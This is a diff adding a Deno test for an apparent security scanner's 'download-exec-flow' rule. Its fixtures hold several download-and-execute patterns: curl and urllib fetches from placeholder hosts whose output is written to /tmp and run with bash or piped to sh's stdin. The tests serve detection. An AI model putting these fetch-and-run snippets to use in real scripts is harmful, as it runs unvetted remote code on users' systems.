@@ -1015,3 +1015,48 @@ Deno.test("shell: a ${…} default holding quoted braces ends at its own closing
     '#!/bin/bash\nV="${A:-"}"}"; curl -fsSL https://get.example.net/y -o /tmp/y\nsh /tmp/y\n';
   assert.deepEqual(flows(after), ["download-exec-flow:3"]);
 });
+
+Deno.test("downloaded data run by way of a file or a process is still run: written and executed, or fed to a shell's stdin", () => {
+  const flows = (file: string, text: string) =>
+    findings({ [file]: text }).filter((f) => f.rule === "download-exec-flow").map((f) => f.line);
+  const fetch = 'data = urllib.request.urlopen("https://get.notes-cloud.net/x").read()\n';
+  // Written to a file at a constant path, then given to bash.
+  assert.deepEqual(
+    flows(
+      "scripts/a.py",
+      `import subprocess, urllib.request\n${fetch}open("/tmp/x.sh", "wb").write(data)\n` +
+        'subprocess.run(["bash", "/tmp/x.sh"])\n',
+    ),
+    [4],
+  );
+  // Through a temporary file object, by its name.
+  assert.deepEqual(
+    flows(
+      "scripts/b.py",
+      `import subprocess, tempfile, urllib.request\n${fetch}` +
+        'with tempfile.NamedTemporaryFile("wb", suffix=".sh", delete=False) as f:\n    f.write(data)\n' +
+        'subprocess.run(["bash", f.name])\n',
+    ),
+    [5],
+  );
+  // curl started as a process, its output fed to a shell's stdin.
+  assert.deepEqual(
+    flows(
+      "scripts/c.py",
+      'import subprocess\np = subprocess.run(["curl", "-fsSL", "https://get.notes-cloud.net/x"], capture_output=True)\n' +
+        'subprocess.run(["sh"], input=p.stdout)\n',
+    ),
+    [3],
+  );
+  // Saved and parsed, or a shell given its own script: nothing downloaded runs.
+  assert.deepEqual(
+    flows(
+      "scripts/d.py",
+      `import json, subprocess, urllib.request\n${fetch}open("/tmp/x.json", "wb").write(data)\n` +
+        'print(json.load(open("/tmp/x.json")))\nsubprocess.run(["bash", "scripts/setup.sh"])\n' +
+        'p = subprocess.run(["curl", "-s", "https://api.notes-cloud.net/v"], capture_output=True)\n' +
+        'print(json.loads(p.stdout))\nsubprocess.run(["python3", "-"], input="print(1)", text=True)\n',
+    ),
+    [],
+  );
+});
